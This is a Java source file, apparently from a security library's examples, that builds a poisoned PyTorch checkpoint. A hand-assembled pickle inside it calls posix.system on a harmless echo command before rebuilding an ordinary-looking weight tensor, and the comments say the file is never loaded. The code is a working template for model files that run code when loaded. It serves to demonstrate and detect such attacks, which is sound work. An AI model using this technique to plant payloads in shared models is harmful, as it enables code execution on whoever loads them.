package dev.bulwark.examples;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/// Writes what an attacker would: a PyTorch checkpoint that looks like the scorer's weights and,
/// when it is loaded, first runs a command.
///
/// The command only prints a line. Nothing here or in Bulwark ever loads the file.
final class PoisonedCheckpoint {
  private static final String COMMAND = "echo this model ran a command while it was loaded";

  private PoisonedCheckpoint() {}

  static byte[] of(Scorer scorer) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      add(zip, "scorer/data.pkl", pickle(scorer.weight().size()));
      add(zip, "scorer/byteorder", "little".getBytes(StandardCharsets.US_ASCII));
      add(zip, "scorer/data/0", LittleEndian.floats(scorer.weight()));
      add(zip, "scorer/version", "3\n".getBytes(StandardCharsets.US_ASCII));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  /// Protocol 2: calls `posix.system`, throws the result away, then builds the honest-looking
  /// `{"weight": tensor}`.
  private static byte[] pickle(int width) {
    return new Assembler()
        .bytes(0x80, 2)
        .global("posix", "system")
        .text(COMMAND)
        .bytes(0x85, 'R', '0')
        .bytes('}')
        .text("weight")
        .global("torch._utils", "_rebuild_tensor_v2")
        .bytes('(', '(')
        .text("storage")
        .global("torch", "FloatStorage")
        .text("0")
        .text("cpu")
        .bytes('K', width, 't', 'Q')
        .bytes('K', 0, 'K', width, 0x85, 'K', 1, 0x85, 0x89)
        .global("collections", "OrderedDict")
        .bytes(')', 'R', 't', 'R', 's', '.')
        .out
        .toByteArray();
  }

  private static void add(ZipOutputStream zip, String name, byte[] content) throws IOException {
    CRC32 crc = new CRC32();
    crc.update(content);
    ZipEntry entry = new ZipEntry(name);
    entry.setMethod(ZipEntry.STORED);
    entry.setSize(content.length);
    entry.setCrc(crc.getValue());
    entry.setTimeLocal(java.time.LocalDateTime.of(1980, 1, 1, 0, 0));
    zip.putNextEntry(entry);
    zip.write(content);
    zip.closeEntry();
  }

  private static final class Assembler {
    private final ByteArrayOutputStream out = new ByteArrayOutputStream();

    Assembler bytes(int... values) {
      for (int value : values) {
        out.write(value);
      }
      return this;
    }

    Assembler global(String module, String name) {
      bytes('c');
      out.writeBytes((module + "\n" + name + "\n").getBytes(StandardCharsets.US_ASCII));
      return this;
    }

    Assembler text(String text) {
      byte[] utf8 = text.getBytes(StandardCharsets.UTF_8);
      bytes('X', utf8.length & 0xff, (utf8.length >> 8) & 0xff, 0, 0);
      out.writeBytes(utf8);
      return this;
    }
  }
}
